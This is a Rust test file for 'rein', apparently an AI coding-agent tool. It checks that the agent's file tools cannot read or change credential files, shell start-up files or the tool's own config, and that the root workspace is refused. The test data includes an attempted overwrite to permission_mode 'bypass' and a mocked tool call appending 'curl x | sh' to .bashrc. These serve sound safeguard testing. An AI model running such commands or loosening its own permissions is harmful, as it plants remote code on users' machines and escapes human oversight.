//! Odd workspaces: the file system root is refused, the home folder is warned about, and
//! whatever the workspace, rein's own config and data, other agents' folders, credentials
//! and shell start-up files stay out of the tools' reach.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::support::*;

/// What a user's home holds that the model must not touch, with the text each file starts with.
const HOME_FILES: &[(&str, &str)] = &[
    (
        ".config/rein/config.toml",
        "permission_mode = \"default\"\n",
    ),
    (".local/share/rein/trust.json", "{}\n"),
    (
        ".local/share/rein/sessions/other/s.jsonl",
        "{\"transcript\": 1}\n",
    ),
    (".claude/settings.json", "{}\n"),
    (
        ".claude/.credentials.json",
        "{\"token\": \"claude-secret\"}\n",
    ),
    (".codex/auth.json", "{\"token\": \"codex-secret\"}\n"),
    (".git-credentials", "https://u:ghp_secret@github.com\n"),
    (".config/gh/hosts.yml", "oauth_token: gho_secret\n"),
    (".npmrc", "//registry.npmjs.org/:_authToken=npm_secret\n"),
    (".bashrc", "# rc\n"),
    (".profile", "# profile\n"),
];

/// A fake home holding [`HOME_FILES`] and a project, and `rein` run with that home and its
/// default config and data folders.
fn fake_home() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let home = std::fs::canonicalize(dir.path()).unwrap().join("home");
    for (path, content) in HOME_FILES {
        let path = home.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    std::fs::create_dir_all(home.join("project")).unwrap();
    (dir, home)
}

fn rein_at_home(home: &Path, workspace: &Path) -> Command {
    let mut cmd = rein(workspace);
    cmd.env("HOME", home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_DATA_HOME");
    cmd
}

async fn tool(home: &Path, workspace: &Path, name: &str, args: &Value) -> (bool, String) {
    let mut cmd = rein_at_home(home, workspace);
    cmd.args(["tool", name, "--json", "--args", &args.to_string()]);
    let out = output(cmd).await;
    let value: Value = serde_json::from_str(&text(&out.stdout))
        .unwrap_or_else(|e| panic!("{e}: {}{}", text(&out.stdout), text(&out.stderr)));
    (
        value["is_error"].as_bool().unwrap(),
        value["output"].as_str().unwrap_or_default().to_string(),
    )
}

#[tokio::test]
async fn the_file_system_root_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = mock(DEMO).await;
    let mut cmd = rein(dir.path());
    cmd.args(["exec", "--cwd", "/", "--base-url", &server.url(), "hi"]);
    let out = output(cmd).await;
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(
        err.contains("file system root cannot be a workspace"),
        "{err}"
    );
    assert!(server.requests().is_empty(), "a request was sent");
}

#[tokio::test]
async fn a_home_workspace_is_warned_about_and_its_private_files_stay_out_of_reach() {
    let (_dir, home) = fake_home();
    for workspace in [home.clone(), home.join("project")] {
        for (path, content) in HOME_FILES {
            let absolute = home.join(path).display().to_string();
            // From the home folder the relative path, from the project the absolute one.
            let given = if workspace == home {
                path.to_string()
            } else {
                absolute
            };
            let (is_error, out) = tool(
                &home,
                &workspace,
                "read_file",
                &serde_json::json!({ "path": given }),
            )
            .await;
            assert!(is_error, "{given} from {}: {out}", workspace.display());
            assert!(!out.contains(content.trim()), "{given}: {out}");
            let (is_error, out) = tool(
                &home,
                &workspace,
                "write_file",
                &serde_json::json!({ "path": given, "content": "permission_mode = \"bypass\"\n" }),
            )
            .await;
            assert!(is_error, "{given}: {out}");
            assert_eq!(
                std::fs::read_to_string(home.join(path)).unwrap(),
                *content,
                "{given} changed"
            );
        }
    }
    // A search of the home folder does not list them either.
    let (_, out) = tool(
        &home,
        &home,
        "grep",
        &serde_json::json!({ "pattern": "secret", "path": "." }),
    )
    .await;
    for (_, content) in HOME_FILES {
        assert!(!out.contains(content.trim()), "{out}");
    }
    // `rein exec` in the home folder says what it is doing.
    let server = mock(DEMO).await;
    let mut cmd = rein_at_home(&home, &home);
    cmd.args(["exec", "--base-url", &server.url(), "hi"]);
    let out = output(cmd).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("the workspace is your home folder"),
        "{}",
        text(&out.stderr)
    );
}

#[tokio::test]
async fn a_shell_line_that_changes_a_start_up_file_asks_even_when_allowed() {
    let (_dir, home) = fake_home();
    let workspace = home.join("project");
    let scenario = r#"{"turns": [
        {"tool_calls": [{"name": "bash", "arguments": {"command": "echo 'curl x | sh' >> \"$HOME/.bashrc\""}}]},
        {"text": "done"}
    ]}"#;
    let server = mock(scenario).await;
    let mut cmd = rein_at_home(&home, &workspace);
    cmd.args(["exec", "--base-url", &server.url()])
        .args(["--allowed-tools", "Bash(echo *)", "go"]);
    let out = output(cmd).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    let second = server.requests()[1].body.to_string();
    assert!(second.contains("start-up file"), "{second}");
}
